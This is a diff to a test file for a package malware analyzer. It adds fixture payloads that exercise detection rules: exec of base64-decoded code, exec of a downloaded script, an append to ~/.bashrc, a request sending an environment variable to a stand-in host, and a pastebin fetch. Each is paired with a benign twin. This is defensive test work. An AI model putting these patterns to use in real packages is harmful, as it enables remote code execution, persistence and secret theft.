@@ -14,8 +14,12 @@ from pathlib import Path
 import pytest
 
 from outwork.analyzers.packages.rules import (
+    DownloadAndExecute,
     InstallTimeNetwork,
+    InstallTimeProcess,
     ObfuscatedCodeExecution,
+    ObfuscationIndicators,
+    PersistenceWrite,
     SecretExfiltration,
     SuspiciousCommandExecution,
     SuspiciousJavaScript,
@@ -29,7 +33,9 @@ from tests.analyzers.packages.helpers import sdist
 
 # a comment first: core.artifact.classify reads a file that starts with two import lines as a
 # pickle (a classification gap reported to the lead), so no package analysis would run on it
-HEADER = "# fixture\nimport os\nimport sys\nimport threading\nimport urllib.request\n"
+HEADER = (
+    "# fixture\nimport base64\nimport os\nimport sys\nimport threading\nimport urllib.request\n"
+)
 
 #: Where a payload runs: file name, source (``PAYLOAD`` marks the payload's line), context.
 WRAPPERS: tuple[tuple[str, str, When], ...] = (
@@ -116,6 +122,41 @@ PAYLOADS: tuple[tuple[Variant, str, str], ...] = (
         ObfuscatedCodeExecution.COMPUTED,
         "exec(sys.argv[1])",
         "print(sys.argv[1])",
+    ),
+    (
+        ObfuscatedCodeExecution.DECODED,
+        'exec(base64.b64decode("cHJpbnQoMSk="))',
+        'print(base64.b64decode("cHJpbnQoMSk="))',
+    ),
+    (
+        DownloadAndExecute.RUNS_DOWNLOAD,
+        'exec(urllib.request.urlopen("https://example.invalid/x.py").read())',
+        'print(urllib.request.urlopen("https://example.invalid/x.py").read())',
+    ),
+    (
+        PersistenceWrite.WRITE,
+        'open(os.path.expanduser("~/.bashrc"), "a")',
+        'open(os.path.expanduser("~/notes.txt"), "a")',
+    ),
+    (
+        InstallTimeProcess.STARTS,
+        'os.system("git describe --tags")',
+        'print("git describe --tags")',
+    ),
+    (
+        SecretExfiltration.HOST,
+        'urllib.request.urlopen("https://api.example.com/?u=" + os.environ["USERNAME"])',
+        'urllib.request.urlopen("https://api.example.com/?u=" + "USERNAME")',
+    ),
+    (
+        InstallTimeNetwork.SUSPICIOUS,
+        'urllib.request.urlopen("https://pastebin.com/raw/abc")',
+        'print("https://pastebin.com/raw/abc")',
+    ),
+    (
+        ObfuscationIndicators.COMPUTED_IMPORT,
+        "__import__(sys.argv[1])",
+        '__import__("json")',
     ),
 )
 
